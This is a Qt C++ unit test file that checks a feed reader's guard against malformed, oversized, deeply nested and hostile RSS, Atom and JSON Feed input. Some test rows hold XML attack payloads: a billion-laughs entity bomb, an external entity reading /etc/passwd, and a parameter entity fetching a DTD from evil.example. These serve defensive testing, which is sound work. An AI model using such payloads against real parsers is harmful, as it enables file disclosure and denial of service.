// SPDX-FileCopyrightText: 2026 IOC Console contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/feeds/feed.h"
#include "models/feeds/xmlguard.h"

#include <QTest>

using namespace Qt::StringLiterals;
using feeds::readFeed;

namespace {

QByteArray channel(const QByteArray &inside)
{
    return "<rss version=\"2.0\"><channel><title>T</title><link>https://a.vn</link>" + inside +
           "</channel></rss>";
}

QByteArray items(int count)
{
    QByteArray all;
    for (int i = 0; i < count; ++i)
        all += "<item><title>Tin " + QByteArray::number(i) + "</title></item>";
    return all;
}

QByteArray jsonItems(int count)
{
    QByteArray all;
    for (int i = 0; i < count; ++i)
        all += (i > 0 ? "," : "") + QByteArray("{\"id\":\"") + QByteArray::number(i) +
               "\",\"content_text\":\"x\"}";
    return "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[" + all + "]}";
}

} // namespace

/// What stands before the readers: documents that are too large, too deep, or no feeds.
class TestFeedsGuard : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void refuses_data();
    void refuses();
    void takesWhatIsJustAllowed();
    void refusesFiftyMegabytes();
    void readsAThousandEntries_data();
    void readsAThousandEntries();
    void copiesWithoutDtdAndComments();
};

void TestFeedsGuard::refuses_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("detail");
    const auto row = [](const char *name, const QByteArray &bytes, const QString &detail) {
        QTest::newRow(name) << bytes << detail;
    };
    row("empty", QByteArray(), u"the document is empty"_s);
    row("blank", " \n ", u"neither XML nor JSON"_s);
    row("text", "xin chào", u"neither XML nor JSON"_s);
    row("binary", QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16), u"neither XML nor JSON"_s);
    row("web-page", "<!DOCTYPE html>\n<html><head><title>404</title><body><p>x</body>",
        u"this is a web page, not a feed"_s);
    row("web-page-old", "<HTML><BODY>x<br>y", u"this is a web page, not a feed"_s);
    row("web-page-xhtml",
        "<?xml version=\"1.0\"?><!-- x --><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" "
        "\"x\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>",
        u"this is a web page, not a feed"_s);
    row("other-xml", "<sitemap><url/></sitemap>", u"neither RSS nor Atom: <sitemap>"_s);
    row("broken", "<rss version=\"2.0\">\n<channel>\n<title>x</titel>\n</channel></rss>",
        u"not well-formed XML, line 3"_s);
    row("cut-off", channel("<item><title>x").chopped(16), u"not well-formed XML, line 1"_s);
    row("two-roots", "<rss version=\"2.0\"><channel/></rss><rss/>", u"not well-formed XML"_s);
    row("bare-ampersand", channel("<item><link>https://a.vn/?a=1&b=2</link></item>"),
        u"not well-formed XML, line 1"_s);
    row("unknown-entity", channel("<item><title>&lol;</title></item>"),
        u"not well-formed XML, line 1"_s);
    row("billion-laughs",
        "<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
        "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>" +
            channel("<item><title>&c;</title></item>"),
        u"declares entities"_s);
    row("file-entity",
        "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" +
            channel("<item><title>&x;</title></item>"),
        u"declares entities"_s);
    row("parameter-entity",
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">]>" + channel(""),
        u"declares entities"_s);
    row("deep", channel(QByteArray("<i>").repeated(70) + QByteArray("</i>").repeated(70)),
        u"nested deeper than 64"_s);
    row("very-deep", QByteArray("<i>").repeated(100'000) + QByteArray("</i>").repeated(100'000),
        u"nested deeper than 64"_s);
    row("very-deep-never-closed", QByteArray("<i>").repeated(100'000), u"nested deeper than 64"_s);
    row("many-elements", channel(QByteArray("<i/>").repeated(600'000)),
        u"more than 500000 elements"_s);
    row("endless-tag", channel("<item" + QByteArray(" a=\"\"").repeated(20'000) + "/>"),
        u"a tag is longer than 64 KB"_s);
    QByteArray attributes;
    for (int i = 0; i < 300; ++i)
        attributes += " a" + QByteArray::number(i) + "='1'";
    row("many-attributes", channel("<item" + attributes + "/>"), u"more than 200 attributes"_s);
    row("tag-without-end", "<rss " + QByteArray("a").repeated(100'000), u"a tag is longer"_s);
    row("json-broken", "{\n\"version\": \"https://jsonfeed.org/version/1\",\n\"items\": [}",
        u"not well-formed JSON, line 3"_s);
    row("json-cut-off", "{", u"not well-formed JSON, line 1"_s);
    row("json-cut-off-in-text", "{\"version\": \"https", u"not well-formed JSON, line 1"_s);
    row("json-other", "{\"a\": 1}", u"JSON, but not a JSON Feed"_s);
    row("json-without-items", "{\"version\": \"https://jsonfeed.org/version/1.1\"}",
        u"JSON, but not a JSON Feed"_s);
    row("json-very-deep", "{\"a\":" + QByteArray("[").repeated(100'000),
        u"nested deeper than 64"_s);
    row("json-large", "{" + QByteArray(21 * 1024 * 1024, ' ') + "}", u"larger than 20 MB"_s);
}

void TestFeedsGuard::refuses()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, detail);
    const auto document = readFeed(bytes, QUrl(u"https://a.vn/rss"_s));
    QVERIFY(!document);
    QCOMPARE(document.error().kind, core::ErrorKind::BadContract);
    QVERIFY2(document.error().detail.contains(detail), qPrintable(document.error().detail));
}

void TestFeedsGuard::takesWhatIsJustAllowed()
{
    const QByteArray deep = channel("<item><title>x</title><description/>" +
                                    QByteArray("<i>").repeated(61) +
                                    QByteArray("</i>").repeated(61) + "</item>");
    const auto document = readFeed(deep);
    QVERIFY2(document, qPrintable(document ? QString() : document.error().detail));
    QCOMPARE(document->entries.size(), 1U);
    const QByteArray netscape =
        "<?xml version=\"1.0\"?><!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS "
        "0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">" +
        channel(items(2));
    const auto old = readFeed(netscape);
    QVERIFY2(old, qPrintable(old ? QString() : old.error().detail));
    QCOMPARE(old->entries.size(), 2U);
    const auto data = readFeed(channel(
        "<item><title>x</title><description><![CDATA[<img src=\"data:" + QByteArray(200'000, 'A') +
        "\">y]]></description></item>"));
    QVERIFY2(data, qPrintable(data ? QString() : data.error().detail));
    QCOMPARE(data->entries.at(0).summary, u"y"_s);
}

void TestFeedsGuard::refusesFiftyMegabytes()
{
    QByteArray bytes;
    const QByteArray block = items(1000);
    while (bytes.size() < 50 * 1024 * 1024)
        bytes += block;
    const auto document = readFeed(channel(bytes));
    QVERIFY(!document);
    QCOMPARE(document.error().kind, core::ErrorKind::BadContract);
    QVERIFY2(document.error().detail.startsWith(u"larger than 20 MB"_s),
             qPrintable(document.error().detail));
}

void TestFeedsGuard::readsAThousandEntries_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::newRow("rss") << channel(items(1234) + "<language>vi</language>");
    QByteArray atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>T</title>";
    for (int i = 0; i < 1234; ++i)
        atom += "<entry><title>Tin " + QByteArray::number(i) + "</title></entry>";
    QTest::newRow("atom") << atom + "</feed>";
    QTest::newRow("json") << jsonItems(1234);
}

void TestFeedsGuard::readsAThousandEntries()
{
    QFETCH(QByteArray, bytes);
    const auto document = readFeed(bytes);
    QVERIFY2(document, qPrintable(document ? QString() : document.error().detail));
    QCOMPARE(document->entries.size(), 1000U);
    QCOMPARE(document->beyondLimit, 234);
    QVERIFY(document->entries.back().title == u"Tin 999"_s ||
            document->entries.back().guid == u"999"_s);
}

void TestFeedsGuard::copiesWithoutDtdAndComments()
{
    const auto copy = feeds::guardXml(
        "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><!DOCTYPE a><?x y?><!-- z --><a "
        "xmlns:b=\"urn:b\" b:c=\"&lt;&quot;1\"><b:d>5 &lt; 6 &amp; \xE9</b:d><![CDATA[<x>]]></a>");
    QVERIFY(copy);
    QCOMPARE(copy->root, u"a"_s);
    QCOMPARE(QString::fromUtf8(copy->bytes).section(u"?>"_s, 1).trimmed(),
             u"<a xmlns:b=\"urn:b\" b:c=\"&lt;&quot;1\"><b:d>5 &lt; 6 &amp; é</b:d>"
             "<![CDATA[<x>]]></a>"_s);
}

QTEST_GUILESS_MAIN(TestFeedsGuard)
#include "tst_feedsguard.moc"
